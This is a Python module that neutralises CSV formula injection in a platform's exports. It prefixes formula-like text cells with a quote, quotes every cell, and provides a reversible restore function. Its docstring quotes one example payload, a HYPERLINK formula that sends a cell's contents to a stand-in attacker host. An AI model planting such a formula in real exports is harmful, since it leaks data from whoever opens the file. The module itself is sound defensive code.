"""CSV a spreadsheet opens without running anything (OWASP "CSV Injection", ASVS 5 1.2.10).

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
tab, carriage return or NUL) as a formula: ``=HYPERLINK("https://evil.example/?"&A1, "Open")``
in a service's name would run on the desk of whoever opens an export. Every CSV the
platform writes goes through :class:`DictWriter`, which

* prefixes such a text cell with a single quote (``'=HYPERLINK(...)``): spreadsheets then
  show it as text. So that the prefix can be taken off again without guessing, a cell whose
  text after any leading quotes starts with a formula character gets one more quote
  (``'=x`` is written ``''=x``): :func:`restore` removes exactly one quote from those cells
  and leaves every other cell alone, so ``restore(neutralise(v)) == v`` for every text;
* quotes every cell (RFC 4180), so a cell holding the other common delimiter (``;`` in
  locales where it separates) is not split into a new cell that starts with a formula.

Numbers and other non-text values are written as they are. An importer of the platform's
own CSV calls :func:`restore` on each cell before reading it.
"""

from __future__ import annotations

import csv
from collections.abc import Collection, Iterable, Mapping
from typing import Any

#: The first characters that make a spreadsheet cell a formula (OWASP; NUL from ASVS).
FORMULA_START = frozenset("=+-@\t\r\0")
QUOTE = "'"


def _formula_like(text: str) -> bool:
    return text.lstrip(QUOTE)[:1] in FORMULA_START


def neutralise(value: Any) -> Any:
    """``value`` as a cell no spreadsheet runs: text that (after any leading quotes) starts
    with a formula character gets a single quote in front; anything else is unchanged."""
    if isinstance(value, str) and _formula_like(value):
        return QUOTE + value
    return value


def restore(text: str) -> str:
    """The value :func:`neutralise` was given: one leading quote off a cell that (after its
    leading quotes) starts with a formula character; any other cell as it is."""
    if text.startswith(QUOTE) and _formula_like(text):
        return text[1:]
    return text


class DictWriter(csv.DictWriter):
    """:class:`csv.DictWriter` that neutralises every cell and quotes them all."""

    def __init__(self, f: Any, fieldnames: Collection[str], **kwargs: Any) -> None:
        kwargs.setdefault("quoting", csv.QUOTE_ALL)
        super().__init__(f, fieldnames, **kwargs)

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)
